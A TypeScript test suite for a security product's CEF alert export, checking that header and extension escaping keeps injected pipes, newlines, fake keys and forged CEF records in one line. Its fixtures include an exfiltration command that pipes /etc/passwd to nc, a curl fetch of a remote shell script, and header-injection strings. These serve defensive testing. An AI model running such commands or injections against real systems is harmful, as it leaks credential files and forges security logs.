import { type Alert } from '../../../../shared/alerts/alert';
import { CEF_COMMAND_LINE_KEY, cefSeverityOf, escapeCefExtension, escapeCefHeader, toCefLine } from '../../../../shared/alerts/export/cefFormat';
import { type Severity } from '../../../../shared/detection/rule';
import { nodeAlert, templateAlert, variedAlert } from '../../../support/alertFixtures';

const options = { productVersion: '1.2.3' };

interface ParsedCef {
  version: string;
  vendor: string;
  product: string;
  productVersion: string;
  signatureId: string;
  name: string;
  severity: string;
  extension: [string, string][];
}

/**
 * A small CEF reader that honours the escapes: header fields end at an unescaped `|` (`\|` and `\\`
 * unescaped); in the extension every unescaped `=` ends a key (the word before it, after a space), and
 * a value runs to the space before the next key, with `\=`, `\\`, `\n` and `\r` unescaped.
 */
function parseCef(line: string): ParsedCef {
  const fields: string[] = [];
  let current = '';
  let i = 0;
  while (fields.length < 7) {
    const c = line[i];
    if (c === undefined) throw new Error(`the header ends after ${fields.length} fields`);
    if (c === '\\') {
      const next = line[i + 1];
      if (next !== '\\' && next !== '|') throw new Error(`bad header escape \\${next ?? ''} at ${i}`);
      current += next;
      i += 2;
    } else if (c === '|') {
      fields.push(current);
      current = '';
      i += 1;
    } else {
      current += c;
      i += 1;
    }
  }
  const [version, vendor, product, productVersion, signatureId, name, severity] = fields as [string, string, string, string, string, string, string];
  return { version, vendor, product, productVersion, signatureId, name, severity, extension: parseExtension(line.slice(i)) };
}

function parseExtension(text: string): [string, string][] {
  // Positions of the unescaped '=' signs.
  const equals: number[] = [];
  for (let i = 0; i < text.length; i += 1) {
    if (text[i] === '\\') i += 1;
    else if (text[i] === '=') equals.push(i);
  }
  const keys = equals.map((at) => {
    const start = text.lastIndexOf(' ', at) + 1;
    const key = text.slice(start, at);
    if (!/^[A-Za-z0-9_]+$/.test(key)) throw new Error(`bad key "${key}"`);
    return { key, start, valueStart: at + 1 };
  });
  return keys.map((k, index) => {
    const next = keys[index + 1];
    const raw = text.slice(k.valueStart, next === undefined ? text.length : next.start - 1);
    return [k.key, unescapeValue(raw)];
  });
}

function unescapeValue(raw: string): string {
  let value = '';
  for (let i = 0; i < raw.length; i += 1) {
    const c = raw[i] as string;
    if (c !== '\\') {
      value += c;
      continue;
    }
    const next = raw[i + 1];
    i += 1;
    if (next === '\\' || next === '=') value += next;
    else if (next === 'n') value += '\n';
    else if (next === 'r') value += '\r';
    else throw new Error(`bad extension escape \\${next ?? ''}`);
  }
  return value;
}

function extensionOf(alert: Alert): Map<string, string> {
  return new Map(parseCef(toCefLine(alert, options)).extension);
}

const hostileValues: [string, string][] = [
  ['pipes', 'a|b||c|'],
  ['backslashes', 'C:\\Windows\\System32\\'],
  ['equals signs', 'key=value a==b =start end='],
  ['a fake key', 'x suser=root cs1=evil'],
  ['LF newlines', 'line one\nline two\n'],
  ['CRLF newlines', 'line one\r\nline two\r\n'],
  ['CR newlines', 'line one\rline two'],
  ['tabs', 'col1\tcol2\t'],
  ['emoji and accents', 'pod 🚀 café ☸️ 👩‍💻'],
  ['right-to-left text', 'مرحبا \u202Eevil\u202C שלום'],
  ['a CEF header injection', 'x|y\nCEF:0|Evil|Evil|1|id|name|10|src=1.2.3.4'],
  ['a trailing backslash', 'ends with \\'],
  ['escape-looking text', '\\n is not a newline, \\= is not an equals, \\| is not a pipe'],
  ['leading and trailing spaces', '  padded  '],
];

describe('toCefLine', () => {
  it('when the template alert is formatted, then the header names Argus, the version, the type, the name and the severity', () => {
    const parsed = parseCef(toCefLine(templateAlert(), options));
    expect(parsed).toMatchObject({
      version: 'CEF:0',
      vendor: 'Argus',
      product: 'Argus',
      productVersion: '1.2.3',
      signatureId: 'K8S_PrivilegedContainer',
      name: 'Privileged container detected',
      severity: '1',
    });
  });

  it('when the template alert is formatted, then every standard and custom key has the alert value', () => {
    const alert = templateAlert();
    const extension = extensionOf(alert);
    expect(Object.fromEntries(extension)).toEqual({
      rt: String(Date.parse('2026-11-02T12:00:00.000Z')),
      start: String(Date.parse('2026-11-02T10:15:30.123Z')),
      end: String(Date.parse('2026-11-02T10:15:30.123Z')),
      externalId: alert.id,
      cat: 'PrivilegeEscalation',
      cnt: '1',
      msg: alert.description,
      suser: 'dana@contoso.com',
      src: '203.0.113.24',
      requestClientApplication: 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46',
      cs1Label: 'cluster',
      cs1: '/subscriptions/6b1e0c3d-2f4a-4b5c-8d6e-7f8091a2b3c4/resourceGroups/rg-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod-01',
      cs2Label: 'namespace',
      cs2: 'shop',
      cs3Label: 'alertType',
      cs3: 'K8S_PrivilegedContainer',
      cs4Label: 'techniques',
      cs4: 'T1611,T1610',
      cs5Label: 'status',
      cs5: 'Active',
      cs6Label: 'pod',
      cs6: 'web-7d9f8c6b5-x2k4q',
      cn1Label: 'alertVersion',
      cn1: '1',
      flexString1Label: 'isSimulated',
      flexString1: 'false',
      flexString2Label: 'correlationKey',
      flexString2: alert.correlationKey,
    });
  });

  it('when the template alert is formatted, then the keys come in the documented order with each label right before its value', () => {
    const keys = parseCef(toCefLine(templateAlert(), options)).extension.map(([key]) => key);
    expect(keys).toEqual([
      'rt', 'start', 'end', 'externalId', 'cat', 'cnt', 'msg', 'suser', 'src', 'requestClientApplication',
      'cs1Label', 'cs1', 'cs2Label', 'cs2', 'cs3Label', 'cs3', 'cs4Label', 'cs4', 'cs5Label', 'cs5', 'cs6Label', 'cs6',
      'cn1Label', 'cn1', 'flexString1Label', 'flexString1', 'flexString2Label', 'flexString2',
    ]);
  });

  it('when the alert has no account, ip, pod, namespace or techniques, then those keys and their labels are left out', () => {
    const alert: Alert = { ...templateAlert(), entities: [{ type: 'K8s-cluster', name: 'aks-prod-01' }], extendedProperties: {}, techniques: [] };
    const extension = extensionOf(alert);
    for (const key of ['suser', 'src', 'requestClientApplication', 'cs2Label', 'cs2', 'cs4Label', 'cs4', 'cs6Label', 'cs6']) {
      expect(extension.has(key)).toBe(false);
    }
    expect(extension.get('cs1')).toBe(alert.clusterResourceId);
  });

  it('when the namespace is only on a namespace entity, then cs2 carries it', () => {
    const alert: Alert = { ...templateAlert(), extendedProperties: {} };
    expect(extensionOf(alert).get('cs2')).toBe('shop');
  });

  it('when the alert changed, is simulated and in progress, then cn1, flexString1 and cs5 say so', () => {
    const alert: Alert = { ...templateAlert(), version: 4, isSimulated: true, status: 'InProgress', count: 17 };
    const extension = extensionOf(alert);
    expect([extension.get('cn1'), extension.get('flexString1'), extension.get('cs5'), extension.get('cnt')]).toEqual(['4', 'true', 'InProgress', '17']);
  });

  it.each(hostileValues)('when the display name, type and description hold %s, then the line is one line and reads back exactly', (_, hostile) => {
    const alert: Alert = {
      ...templateAlert(),
      alertDisplayName: `name ${hostile}`,
      alertType: `type${hostile}`,
      description: hostile,
      entities: [{ type: 'account', name: hostile }, { type: 'K8s-pod', name: hostile, namespace: 'shop' }],
      extendedProperties: { namespace: hostile },
      clusterResourceId: hostile,
    };
    const line = toCefLine(alert, { productVersion: `1.0${hostile}` });
    expect(line.split(/\r\n|\r|\n/)).toHaveLength(1);
    expect(line.startsWith('CEF:0|Argus|Argus|')).toBe(true);
    const parsed = parseCef(line);
    const extension = new Map(parsed.extension);
    expect(extension.get('msg')).toBe(hostile);
    expect(extension.get('suser')).toBe(hostile);
    expect(extension.get('cs1')).toBe(hostile);
    expect(extension.get('cs2')).toBe(hostile);
    expect(extension.get('cs3')).toBe(`type${hostile}`);
    expect(extension.get('cs6')).toBe(hostile);
    // Header fields read back exactly, except that line breaks and tabs became spaces.
    const flattened = (value: string): string => value.replace(/[\r\n\t]/g, ' ');
    expect(parsed.name).toBe(flattened(`name ${hostile}`));
    expect(parsed.signatureId).toBe(flattened(`type${hostile}`));
    expect(parsed.productVersion).toBe(flattened(`1.0${hostile}`));
    expect(parsed.severity).toBe('1');
    expect(extension.get('externalId')).toBe(alert.id);
  });

  it('when a display name tries to start a second CEF record, then the record stays one with seven header fields', () => {
    const alert: Alert = { ...templateAlert(), alertDisplayName: 'x\nCEF:0|Evil|Evil|1|id|pwned|10|src=6.6.6.6' };
    const line = toCefLine(alert, options);
    expect(line).not.toContain('\n');
    const parsed = parseCef(line);
    expect(parsed.vendor).toBe('Argus');
    expect(parsed.name).toBe('x CEF:0|Evil|Evil|1|id|pwned|10|src=6.6.6.6');
    expect(parsed.severity).toBe('1');
    expect(new Map(parsed.extension).get('src')).toBe('203.0.113.24');
  });

  it('when the line is formatted, then it has no trailing newline', () => {
    expect(toCefLine(templateAlert(), options)).toMatch(/[^\r\n]$/);
  });

  it('when varied alerts are formatted, then each reads back with its own id, status and severity', () => {
    for (let index = 0; index < 12; index += 1) {
      const alert = variedAlert(index);
      const parsed = parseCef(toCefLine(alert, options));
      const extension = new Map(parsed.extension);
      expect([extension.get('externalId'), extension.get('cs5'), parsed.severity]).toEqual([alert.id, alert.status, String(cefSeverityOf(alert.severity))]);
    }
  });
});

describe('toCefLine for node alerts', () => {
  const NODE = 'aks-nodepool1-12345678-vmss000000';
  const connection = (): Alert => nodeAlert({ remote: { address: '198.51.100.7', port: 3333 }, filePath: '/etc/shadow' });
  const commandLineOf = (alert: Alert): string | undefined => alert.entities.find((entity) => entity.type === 'process' && entity.role === 'process')?.commandLine;

  it('when the alert names a connection and a file, then the node is the device and source host, the remote end is dst and dpt, and the process and file are mapped', () => {
    const alert = connection();
    const extension = extensionOf(alert);
    expect(Object.fromEntries([...extension].filter(([key]) => !['rt', 'start', 'end', 'externalId', 'msg', 'flexString2', 'cs1'].includes(key)))).toEqual({
      cat: 'Execution',
      cnt: '1',
      dvchost: NODE,
      shost: NODE,
      dst: '198.51.100.7',
      dpt: '3333',
      sproc: '/usr/bin/curl',
      spid: '4242',
      fname: 'shadow',
      filePath: '/etc/shadow',
      cs1Label: 'cluster',
      cs2Label: 'namespace',
      cs2: 'shop',
      cs3Label: 'alertType',
      cs3: 'K8S.NODE_FixtureActivity',
      cs4Label: 'techniques',
      cs4: 'T1059.004',
      cs5Label: 'status',
      cs5: 'Active',
      cs6Label: 'pod',
      cs6: 'web-7d4b9c6f5-x2x9k',
      cn1Label: 'alertVersion',
      cn1: '1',
      flexString1Label: 'isSimulated',
      flexString1: 'false',
      flexString2Label: 'correlationKey',
      [CEF_COMMAND_LINE_KEY]: '/usr/bin/curl -s http://203.0.113.50/x.sh',
    });
    expect(extension.get('cs1')).toBe(alert.clusterResourceId);
  });

  it('when a node alert is formatted, then it has no account and the remote address is never the source (src)', () => {
    const extension = extensionOf(connection());
    expect([extension.has('suser'), extension.has('src'), extension.has('dhost'), extension.has('requestClientApplication')]).toEqual([false, false, false, false]);
  });

  it('when the alert names no remote address, then the node is the destination host and there is no dst, dpt or shost', () => {
    const extension = extensionOf(nodeAlert());
    expect(extension.get('dhost')).toBe(NODE);
    expect(extension.get('dvchost')).toBe(NODE);
    for (const key of ['shost', 'dst', 'dpt', 'fname', 'filePath']) expect(extension.has(key)).toBe(false);
  });

  it('when the process has no pid or the remote end no port, then spid and dpt are left out', () => {
    const extension = extensionOf(nodeAlert({ pid: null, remote: { address: '2001:db8::7' } }));
    expect([extension.has('spid'), extension.has('dpt'), extension.get('dst')]).toEqual([false, false, '2001:db8::7']);
  });

  it('when a node alert is formatted, then the node keys come after the request keys and the command line comes last', () => {
    const keys = parseCef(toCefLine(connection(), options)).extension.map(([key]) => key);
    expect(keys).toEqual([
      'rt', 'start', 'end', 'externalId', 'cat', 'cnt', 'msg',
      'dvchost', 'shost', 'dst', 'dpt', 'sproc', 'spid', 'fname', 'filePath',
      'cs1Label', 'cs1', 'cs2Label', 'cs2', 'cs3Label', 'cs3', 'cs4Label', 'cs4', 'cs5Label', 'cs5', 'cs6Label', 'cs6',
      'cn1Label', 'cn1', 'flexString1Label', 'flexString1', 'flexString2Label', 'flexString2', CEF_COMMAND_LINE_KEY,
    ]);
  });

  it.each(hostileValues)('when the command line, the file path and the binary hold %s, then the line is one line and reads back exactly', (_, hostile) => {
    const alert = nodeAlert({ binary: `/tmp/x${hostile}`, arguments: hostile, filePath: `/etc/${hostile}`, remote: { address: '198.51.100.7', port: 443 } });
    const line = toCefLine(alert, options);
    expect(line.split(/\r\n|\r|\n/)).toHaveLength(1);
    const parsed = parseCef(line);
    const extension = new Map(parsed.extension);
    expect(parsed.vendor).toBe('Argus');
    expect(extension.get(CEF_COMMAND_LINE_KEY)).toBe(commandLineOf(alert));
    expect(extension.get('sproc')).toBe(`/tmp/x${hostile}`);
    expect(extension.get('filePath')).toBe(`/etc/${hostile}`);
    expect(extension.get('dst')).toBe('198.51.100.7');
    expect(extension.get('externalId')).toBe(alert.id);
  });

  it.each([
    ['pipes', 'sh -c "cat /etc/passwd | nc 198.51.100.7 4444"', 'sh -c "cat /etc/passwd | nc 198.51.100.7 4444"'],
    ['equals signs and a fake key', 'env suser=root cs1=evil', 'env suser\\=root cs1\\=evil'],
    ['newlines', 'echo one\necho two\r\n', 'echo one\\necho two\\r\\n'],
    ['backslashes', 'printf \\x41\\', 'printf \\\\x41\\\\'],
  ])('when the command line holds %s, then it is escaped as the extension escapes values', (_, args, escaped) => {
    const line = toCefLine(nodeAlert({ binary: '/bin/busybox', arguments: args }), options);
    expect(line.endsWith(` ${CEF_COMMAND_LINE_KEY}=/bin/busybox ${escaped}`)).toBe(true);
  });

  it('when an audit alert names processes and files, then none of the node keys appear (audit lines are unchanged)', () => {
    const alert: Alert = {
      ...templateAlert(),
      entities: [...templateAlert().entities, { type: 'process', commandLine: 'sh -c id' }, { type: 'file', name: '/etc/kubernetes' }, { type: 'host', name: 'aks-x' }],
    };
    const extension = extensionOf(alert);
    for (const key of ['dvchost', 'dhost', 'shost', 'dst', 'dpt', 'sproc', 'spid', 'fname', 'filePath', CEF_COMMAND_LINE_KEY]) expect(extension.has(key)).toBe(false);
    expect(extension.get('src')).toBe('203.0.113.24');
  });
});

describe('cefSeverityOf', () => {
  it.each<[Severity, number]>([
    ['High', 8],
    ['Medium', 5],
    ['Low', 3],
    ['Informational', 1],
  ])('when the severity is %s, then the CEF severity is %i', (severity, expected) => {
    expect(cefSeverityOf(severity)).toBe(expected);
    expect(parseCef(toCefLine({ ...templateAlert(), severity }, options)).severity).toBe(String(expected));
  });
});

describe('escapeCefHeader', () => {
  it.each([
    ['a|b', 'a\\|b'],
    ['a\\b', 'a\\\\b'],
    ['ends\\', 'ends\\\\'],
    ['\\|', '\\\\\\|'],
    ['a\r\nb\nc\rd\te', 'a  b c d e'],
    ['nul\u0000del\u007f', 'nul del '],
    ['line\u2028sep', 'line sep'],
    ['key=value', 'key=value'],
    ['🚀 שלום', '🚀 שלום'],
  ])('when the value is %j, then it is escaped as %j', (value, expected) => {
    expect(escapeCefHeader(value)).toBe(expected);
  });
});

describe('escapeCefExtension', () => {
  it.each([
    ['a=b', 'a\\=b'],
    ['a\\b', 'a\\\\b'],
    ['ends\\', 'ends\\\\'],
    ['a|b', 'a|b'],
    ['a\r\nb', 'a\\r\\nb'],
    ['a\nb', 'a\\nb'],
    ['a\rb', 'a\\rb'],
    ['\\n', '\\\\n'],
    ['tab\there', 'tab\there'],
    ['nul\u0000', 'nul '],
    ['🚀 مرحبا', '🚀 مرحبا'],
  ])('when the value is %j, then it is escaped as %j', (value, expected) => {
    expect(escapeCefExtension(value)).toBe(expected);
  });
});
